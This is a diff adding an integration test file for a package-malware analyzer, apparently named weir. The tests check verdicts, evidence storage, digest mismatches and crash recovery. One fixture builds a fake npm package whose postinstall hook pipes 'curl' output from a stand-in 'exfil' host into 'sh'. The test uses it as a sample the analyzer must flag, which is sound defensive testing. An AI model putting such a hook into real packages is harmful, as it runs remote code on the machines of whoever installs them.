@@ -1,0 +1,174 @@
+import { execFile } from 'node:child_process';
+import { mkdtemp, readFile, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { evidenceBundleSchema } from '@weir/model';
+import { startTestPostgres, type TestPostgres } from '@weir/store/testing';
+import { tarball } from '@weir/testkit/archive';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
+import { type FileServer, startFileServer } from './testing/file-server.ts';
+import { type AnalyzerHarness, digestsOf, openHarness } from './testing/harness.ts';
+
+let postgres: TestPostgres;
+let databaseUrl: string;
+let server: FileServer;
+let evidenceDir: string;
+let harness: AnalyzerHarness;
+
+beforeAll(async () => {
+  postgres = await startTestPostgres();
+});
+afterAll(() => postgres[Symbol.asyncDispose]());
+beforeEach(async () => {
+  databaseUrl = await postgres.createDatabase();
+  server = await startFileServer();
+  evidenceDir = await mkdtemp(join(tmpdir(), 'weir-analyzer-evidence-'));
+  harness = await openHarness({ databaseUrl, origin: server.origin, evidenceDir, leaseMs: 2000 });
+});
+afterEach(async () => {
+  await harness[Symbol.asyncDispose]();
+  await server[Symbol.asyncDispose]();
+  await rm(evidenceDir, { recursive: true, force: true });
+});
+
+function until(check: () => Promise<void> | void): Promise<void> {
+  return vi.waitFor(check, { timeout: 40_000, interval: 50 });
+}
+
+function benign(name: string): Buffer {
+  return tarball()
+    .file('package/package.json', JSON.stringify({ name, version: '1.0.0', main: 'index.js' }))
+    .file('package/index.js', 'exports.add = (a, b) => a + b;\n')
+    .build();
+}
+
+function malicious(name: string): Buffer {
+  const scripts = { postinstall: 'curl -s https://exfil.weir.test/x.sh | sh' };
+  return tarball()
+    .file('package/package.json', JSON.stringify({ name, version: '1.0.0', scripts }))
+    .file('package/index.js', 'module.exports = 1;\n')
+    .build();
+}
+
+describe('the analyzer on real parts', () => {
+  it('carries files to verdicts, in order of the public feed, with evidence of the dangerous one', async () => {
+    const names = ['a', 'b', 'evil'];
+    for (const name of names) {
+      const bytes = name === 'evil' ? malicious(name) : benign(name);
+      server.answer(`/${name}`, bytes);
+      await harness.announce(name, digestsOf(bytes));
+    }
+
+    await harness.listen();
+    await harness.start();
+
+    await until(() => expect(harness.verdicts).toHaveLength(3));
+    const verdictOf = new Map(
+      harness.verdicts.map(({ data }) => [data.release.name, data.judgement.verdict]),
+    );
+    expect(Object.fromEntries(verdictOf)).toEqual({ a: 'benign', b: 'benign', evil: 'malicious' });
+    await until(async () => expect(await harness.store.verdicts.listSince('0', 10)).toHaveLength(3));
+    expect(await harness.store.stats()).toMatchObject({ files: 3, analyses: 3, parked: 0, gaps: 0 });
+
+    const [{ data: evil } = { data: null }] = harness.verdicts.filter(
+      ({ data }) => data.release.name === 'evil',
+    );
+    const artifact = await harness.evidence.get(evil?.artifactSha256 ?? '');
+    expect(Buffer.from(artifact ?? []).equals(malicious('evil'))).toBe(true);
+    const [row] = await harness.query(
+      "SELECT encode(evidence_sha256, 'hex') AS sha256 FROM analyses WHERE evidence_sha256 IS NOT NULL",
+    );
+    const bundle = await harness.evidence.get(String(row?.sha256));
+    expect(evidenceBundleSchema.parse(JSON.parse(Buffer.from(bundle ?? []).toString())).verification).toEqual(
+      {
+        outcome: 'match',
+        algorithm: 'sha512',
+      },
+    );
+    expect(await harness.evidence.measure()).toMatchObject({ blobs: 2 });
+    expect(
+      await harness.store.releases.lookupDigest('sha512', digestsOf(benign('a')).sha512 ?? ''),
+    ).toMatchObject({ kind: 'verdict', judgement: { verdict: 'benign' } });
+  });
+
+  it('waits for a file that comes late, and gives up one that never comes', async () => {
+    await harness.announce('late');
+    await harness.announce('never');
+    await harness.listen();
+    await harness.start();
+    await until(() => expect(server.asked('/late')).toBeGreaterThan(0));
+    server.answer('/late', benign('late'));
+
+    await until(() => expect(harness.verdicts).toHaveLength(2));
+
+    const verdicts = Object.fromEntries(harness.verdicts.map(({ data }) => [data.release.name, data]));
+    expect(verdicts.late?.judgement.verdict).toBe('benign');
+    expect(verdicts.never).toMatchObject({
+      judgement: { verdict: 'inconclusive' },
+      artifactSha256: null,
+      analysisId: null,
+    });
+    expect(server.asked('/never')).toBe(3);
+    expect(await harness.store.stats()).toMatchObject({ analyses: 1, gaps: 1, parked: 0 });
+    expect(await harness.query('SELECT state FROM release_files ORDER BY filename')).toEqual([
+      { state: 'fetched' },
+      { state: 'gone' },
+    ]);
+  });
+
+  it('records bytes with a wrong digest as a mismatch, and parks a locator to a foreign host', async () => {
+    server.answer('/swapped', benign('swapped'));
+    await harness.announce('swapped', digestsOf(Buffer.from('what was published')));
+    await harness.announce('foreign', {}, 'http://elsewhere.invalid');
+    await harness.listen();
+    await harness.start();
+
+    await until(() => expect(harness.verdicts).toHaveLength(1));
+
+    expect(harness.verdicts[0]?.data).toMatchObject({
+      judgement: { verdict: 'suspicious', complete: false },
+      topFindings: [{ rule: 'fetch/digest-mismatch' }],
+    });
+    const states = await harness.query("SELECT state FROM release_files WHERE filename LIKE 'swapped%'");
+    expect(states).toEqual([{ state: 'mismatch' }]);
+    await until(async () => expect((await harness.store.stats()).parked).toBe(1));
+    expect((await harness.store.parked.list({ limit: 5 }))[0]).toMatchObject({
+      group: 'analyzer',
+      reason: 'LOCATOR_REFUSED',
+      step: 'fetch',
+      error: expect.stringContaining('pkg:npm/foreign@1.0.0'),
+    });
+  });
+});
+
+describe('a killed analyzer', () => {
+  it.each(['analyzer.before-commit', 'analyzer.after-commit'])(
+    'at %s leaves each file one analysis and one verdict',
+    async (failpoint) => {
+      const names = Array.from({ length: 6 }, (_, index) => `p${index}`);
+      for (const name of names) {
+        server.answer(`/${name}`, malicious(name));
+        await harness.announce(name);
+      }
+      const log = join(evidenceDir, '..', `weir-failpoints-${process.pid}-${failpoint}`);
+      const script = join(import.meta.dirname, 'testing', 'doomed-analyzer.ts');
+      const args = [script, databaseUrl, server.origin, evidenceDir, `${failpoint}:3`, log];
+
+      const signal = await new Promise((ended) => {
+        const child = execFile(process.execPath, args);
+        child.once('exit', (_code, name) => ended(name));
+      });
+      const fired = await readFile(log, 'utf8');
+      await rm(log);
+      await harness.listen();
+      await harness.start();
+
+      expect([signal, fired]).toEqual(['SIGKILL', `${failpoint}\n`]);
+      await until(() => expect(new Set(harness.verdicts.map(({ data }) => data.fileId)).size).toBe(6));
+      expect(await harness.store.stats()).toMatchObject({ files: 6, analyses: 6, parked: 0 });
+      const verdictIds = harness.verdicts.map(({ data }) => data.verdictId);
+      expect(new Set(verdictIds).size).toBe(6);
+      expect(await harness.query('SELECT count(*)::int AS rows FROM verdict_log')).toEqual([{ rows: 6 }]);
+    },
+  );
+});
